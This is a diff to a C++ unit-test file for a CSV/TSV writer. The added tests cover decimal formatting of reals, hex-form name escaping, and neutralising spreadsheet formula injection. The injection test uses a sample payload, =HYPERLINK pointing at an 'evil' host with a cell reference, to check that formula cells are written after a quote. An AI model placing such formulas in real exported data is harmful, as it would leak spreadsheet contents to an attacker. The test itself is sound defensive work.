@@ -3,11 +3,13 @@
 // mode over files.
 #include "Parameter.h"
 #include "csv.h"
+#include "json_text.h"
 #include "modes.h"
 #include "support.h"
 
 #include <gtest/gtest.h>
 
+#include <cstdlib>
 #include <limits>
 #include <string>
 #include <vector>
@@ -41,7 +43,7 @@ std::string expectedRow(RowFormat format, std::size_t k, const std::string& fiel
     const char between = format == RowFormat::Csv ? ',' : '\t';
     std::vector<std::string> fields{"f.par", "3950"};
     fields.insert(fields.end(), 50, "0");
-    fields.insert(fields.end(), 150, "0");
+    fields.insert(fields.end(), 150, "0.0");
     fields.insert(fields.end(), 50, "");
     fields.insert(fields.end(), 50, "false");
     fields[k] = field;
@@ -122,6 +124,39 @@ TEST(Csv, EachValueIsWrittenAsJsonWritesItInItsColumn)
     }
 }
 
+// A column of whole numbers alone would be read as integers, and as reals in
+// the next fleet: every finite real has a decimal point or an exponent, and
+// still reads back to its 64 bits.
+TEST(Csv, EveryFiniteRealHasADecimalPointOrAnExponent)
+{
+    const struct {
+        double value;
+        const char* field;
+    } cases[] = {
+        {0.0, "0.0"},
+        {-0.0, "-0.0"},
+        {850, "850.0"},
+        {-3, "-3.0"},
+        {9007199254740993.0, "9007199254740992.0"},
+        {12345678901234568.0, "12345678901234568.0"},
+        // Digits past the 17 that tell reals apart, which pandas would read as text.
+        {123456789012345683968.0, "1.2345678901234568e+20"},
+        {-1180591620717411303424.0, "-1.1805916207174113e+21"},
+        {1e22, "1e+22"},
+        {1e300, "1e+300"},
+        {851.5, "851.5"},
+        {5e-324, "5e-324"},
+    };
+    for (const auto& c : cases) {
+        SCOPED_TRACE(c.field);
+        for (const RowFormat format : {RowFormat::Csv, RowFormat::Tsv}) {
+            EXPECT_EQ(rowOf(format, Image().terminal(5, c.value)).row,
+                      expectedRow(format, terminalColumn + 5, c.field));
+        }
+        EXPECT_EQ(realBits(std::strtod(c.field, nullptr)), realBits(c.value));
+    }
+}
+
 TEST(Csv, NonFiniteRealsAreBareAndANaNPayloadIsWarnedOf)
 {
     const double infinity = std::numeric_limits<double>::infinity();
@@ -184,6 +219,84 @@ TEST(Csv, NamesAreQuotedForCsvAndEscapedForTsv)
     }
 }
 
+// Two names must not give one cell: a name whose text is itself the start of
+// the hex form is written in that form too, and each cell reads back one way.
+TEST(Csv, ANameThatReadsAsTheHexFormIsWrittenInIt)
+{
+    const struct {
+        std::string name;
+        const char* tsv;
+    } cases[] = {
+        {"\xff", "{\"hex\":\"ff\"}"},
+        {"{\"hex\":\"ff\"}", "{\"hex\":\"7b22686578223a226666227d\"}"},
+        {"{\"hex\":", "{\"hex\":\"7b22686578223a\"}"},
+        // Not the hex form's start: text as it is.
+        {"{\"hex\" :\"ff\"}", "{\"hex\" :\"ff\"}"},
+        {"{\"Hex\":\"ff\"}", "{\"Hex\":\"ff\"}"},
+    };
+    for (const auto& c : cases) {
+        SCOPED_TRACE(c.name);
+        const Image image = Image().name(0, c.name);
+        EXPECT_EQ(rowOf(RowFormat::Tsv, image).row, expectedRow(RowFormat::Tsv, namesColumn, c.tsv));
+        std::string csv = "\"";
+        for (const char* at = c.tsv; *at != '\0'; ++at) {
+            csv += *at == '"' ? "\"\"" : std::string(1, *at);
+        }
+        EXPECT_EQ(rowOf(RowFormat::Csv, image).row, expectedRow(RowFormat::Csv, namesColumn, csv + "\""));
+    }
+}
+
+// A text cell that a spreadsheet would take for a formula (CWE-1236) is
+// written after a ', as OWASP advises, with a warning naming the file and
+// the entry; TSV escapes tab and CR already, so they start no formula there.
+TEST(Csv, TextThatASpreadsheetTakesForAFormulaIsWrittenAfterAQuote)
+{
+    const std::string warned = "written after a ' so that a spreadsheet takes it as text (--json keeps it exact)\n";
+    const struct {
+        std::string path;
+        std::string name;
+        const char* csv;
+        const char* tsv;
+        std::string warning;
+    } cases[] = {
+        {"f.par", "=HYPERLINK(\"http://evil/?\"&A2,\"click\")",
+         "\"'=HYPERLINK(\"\"http://evil/?\"\"&A2,\"\"click\"\")\"", "'=HYPERLINK(\"http://evil/?\"&A2,\"click\")",
+         "paramlist: f.par: warning: Names[0] begins with '=', "},
+        {"f.par", "+1", "'+1", "'+1", "paramlist: f.par: warning: Names[0] begins with '+', "},
+        {"f.par", "-2", "'-2", "'-2", "paramlist: f.par: warning: Names[0] begins with '-', "},
+        {"f.par", "@SUM(A1)", "'@SUM(A1)", "'@SUM(A1)", "paramlist: f.par: warning: Names[0] begins with '@', "},
+        {"f.par", "\tx", "'\tx", "\\tx", "paramlist: f.par: warning: Names[0] begins with a tab, "},
+        {"f.par", "\rx", "\"'\rx\"", "\\rx", "paramlist: f.par: warning: Names[0] begins with a carriage return, "},
+        // A ' of its own is kept behind one more, without a warning: a cell that
+        // begins with ' reads back as the text after it.
+        {"f.par", "'=1", "''=1", "''=1", ""},
+        {"'f.par", "", "''f.par", "''f.par", ""},
+        {"f.par", "a=1", "a=1", "a=1", ""},
+        {"f.par", " =1", " =1", " =1", ""},
+        {"=cmd.par", "", "'=cmd.par", "'=cmd.par", "paramlist: =cmd.par: warning: the path begins with '=', "},
+        {"-x,y.par", "", "\"'-x,y.par\"", "'-x,y.par", "paramlist: -x,y.par: warning: the path begins with '-', "},
+        {"\tf.par", "", "'\tf.par", "\\tf.par", "paramlist: \tf.par: warning: the path begins with a tab, "},
+        // Standard input, named by a dash alone, which no spreadsheet takes for a formula.
+        {"-", "", "-", "-", ""},
+        {"dir/=f.par", "", "dir/=f.par", "dir/=f.par", ""},
+    };
+    for (const auto& c : cases) {
+        SCOPED_TRACE(c.path + " " + c.name);
+        for (const RowFormat format : {RowFormat::Csv, RowFormat::Tsv}) {
+            const Written written = rowOf(format, Image().name(0, c.name), c.path.c_str());
+            const std::string field = format == RowFormat::Csv ? c.csv : c.tsv;
+            const std::string between(1, format == RowFormat::Csv ? ',' : '\t');
+            if (c.name.empty()) {
+                EXPECT_EQ(written.row.substr(0, field.size() + 1), field + between);
+            } else {
+                EXPECT_EQ(written.row, expectedRow(format, namesColumn, field));
+            }
+            const bool warns = !c.warning.empty() && (format == RowFormat::Csv || field[0] == '\'');
+            EXPECT_EQ(written.warnings, warns ? c.warning + warned : "");
+        }
+    }
+}
+
 TEST(Csv, PathsAreFieldsOfUtf8AndShownEscapedOnATerminal)
 {
     const struct {
@@ -233,7 +346,7 @@ TEST(Csv, TheModeWritesTheHeaderThenARowForEachFileRead)
         const std::string rows = out.substr(header.size());
         const std::string first = rows.substr(0, rows.find('\n') + 1);
         EXPECT_EQ(first.compare(0, a.size() + 6, a + between + "3950" + between), 0);
-        EXPECT_NE(first.find(std::string(1, between) + "850" + between), std::string::npos);
+        EXPECT_NE(first.find(std::string(1, between) + "850.0" + between), std::string::npos);
         const std::string second = rows.substr(first.size());
         EXPECT_EQ(second.compare(0, cut.size() + 6, cut + between + "1000" + between), 0);
         EXPECT_EQ(second.find('\n'), second.size() - 1);
